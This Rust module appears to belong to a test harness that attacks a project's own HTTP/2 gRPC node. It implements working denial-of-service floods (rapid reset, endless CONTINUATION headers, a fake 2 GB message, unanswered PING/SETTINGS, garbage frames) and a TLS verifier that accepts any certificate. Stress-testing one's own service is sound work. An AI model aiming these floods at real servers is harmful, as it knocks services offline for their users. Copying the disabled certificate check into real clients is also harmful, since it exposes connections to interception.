//! Abuse of HTTP/2 within a good TLS connection: rapid resets, endless headers, huge messages, garbage frames.

use super::frames::{call_headers, http2, http2_preface, long_header};
use super::{Counts, connect_from};
use crate::dice::Dice;
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use rustls::{ClientConfig, DigitallySignedStruct, Error, SignatureScheme};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt, split};
use tokio::time::timeout;
use tokio_rustls::TlsConnector;

const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const HANDSHAKE: Duration = Duration::from_secs(5);
const WHOLE: Duration = Duration::from_secs(8);

/// What is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Http2Abuse {
    /// Calls that are reset as soon as they are made.
    RapidReset,
    /// Headers that never end.
    EndlessHeaders,
    /// A message that claims two gigabytes, and goes on.
    HugeMessage,
    /// Settings and pings that all want an answer, and nobody reads it.
    Questions,
    /// Frames of no kind.
    Garbage,
}

impl Http2Abuse {
    pub(crate) const ALL: [Self; 5] =
        [Self::RapidReset, Self::EndlessHeaders, Self::HugeMessage, Self::Questions, Self::Garbage];

    /// What its handshakes are counted under.
    pub(crate) const fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "HTTP/2 resets",
            Self::EndlessHeaders => "HTTP/2 headers",
            Self::HugeMessage => "HTTP/2 message",
            Self::Questions => "HTTP/2 questions",
            Self::Garbage => "HTTP/2 garbage",
        }
    }

    /// One attack of this kind.
    pub(crate) async fn run(self, target: SocketAddr, mut dice: Dice, counts: Arc<Counts>) {
        let Some(stream) = connect_from(target, &mut dice, &counts).await else { return };
        let Ok(name) = ServerName::try_from("localhost") else { return };
        let connector = TlsConnector::from(Arc::new(config()));
        let Ok(Ok(stream)) = timeout(HANDSHAKE, connector.connect(name, stream)).await else { return };
        counts.shake_hands(self.name());
        let (mut reader, mut writer) = split(stream);
        let read = async {
            let mut sink = [0; 4096];
            // a client that asks and does not listen does not read either
            while self != Self::Questions && reader.read(&mut sink).await.is_ok_and(|read| read > 0) {}
            if self == Self::Questions {
                std::future::pending::<()>().await;
            }
        };
        let write = async {
            // the node ends the connection when it has enough, which is an error here
            let _ = self.write(&mut writer, &mut dice).await;
        };
        let _ = timeout(WHOLE, async {
            tokio::select! {
                () = read => {}
                () = write => {}
            }
        })
        .await;
    }

    async fn write(self, writer: &mut (impl AsyncWriteExt + Unpin), dice: &mut Dice) -> std::io::Result<()> {
        writer.write_all(&http2_preface()).await?;
        writer.write_all(&http2(SETTINGS, 1, 0, &[])).await?;
        let call = call_headers("/bib.v1.HealthService/GetHealth");
        match self {
            Self::RapidReset => {
                for pair in 0..50_000 {
                    let stream = 1 + 2 * pair;
                    writer.write_all(&http2(HEADERS, 4, stream, &call)).await?;
                    writer.write_all(&http2(RESET, 0, stream, &8_u32.to_be_bytes())).await?;
                }
            }
            Self::EndlessHeaders => {
                writer.write_all(&http2(HEADERS, 0, 1, &call)).await?;
                let block = long_header(120).repeat(100);
                for _ in 0..5_000 {
                    writer.write_all(&http2(CONTINUATION, 0, 1, &block)).await?;
                }
            }
            Self::HugeMessage => {
                writer.write_all(&http2(HEADERS, 4, 1, &call_headers("/bib.v1.DatasetService/Upload"))).await?;
                writer.write_all(&http2(0, 0, 1, &[0, 0x7f, 0xff, 0xff, 0xff])).await?;
                let piece = vec![0; 16_000];
                for _ in 0..5_000 {
                    writer.write_all(&http2(0, 0, 1, &piece)).await?;
                }
            }
            Self::Questions => {
                for _ in 0..200_000 {
                    writer.write_all(&http2(PING, 0, 0, &dice.next().to_be_bytes())).await?;
                    writer.write_all(&http2(SETTINGS, 0, 0, &[0, 4, 0, 0, 0x7f, 0xff])).await?;
                }
            }
            Self::Garbage => {
                for _ in 0..1000 {
                    let kind = u8::try_from(dice.below(256)).unwrap_or(0);
                    let length = usize::try_from(dice.below(2000)).unwrap_or(0);
                    writer.write_all(&http2(kind, kind, 1, &dice.bytes(length))).await?;
                }
            }
        }
        writer.flush().await
    }
}

fn config() -> ClientConfig {
    let mut config =
        ClientConfig::builder().dangerous().with_custom_certificate_verifier(Arc::new(AnyServer)).with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    config
}

/// An attacker does not care whom he attacks.
#[derive(Debug)]
struct AnyServer;

impl ServerCertVerifier for AnyServer {
    fn verify_server_cert(
        &self,
        _end_entity: &CertificateDer<'_>,
        _intermediates: &[CertificateDer<'_>],
        _server_name: &ServerName<'_>,
        _ocsp: &[u8],
        _now: UnixTime,
    ) -> Result<ServerCertVerified, Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _message: &[u8],
        _cert: &CertificateDer<'_>,
        _signed: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _message: &[u8],
        _cert: &CertificateDer<'_>,
        _signed: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        rustls::crypto::aws_lc_rs::default_provider().signature_verification_algorithms.supported_schemes()
    }
}
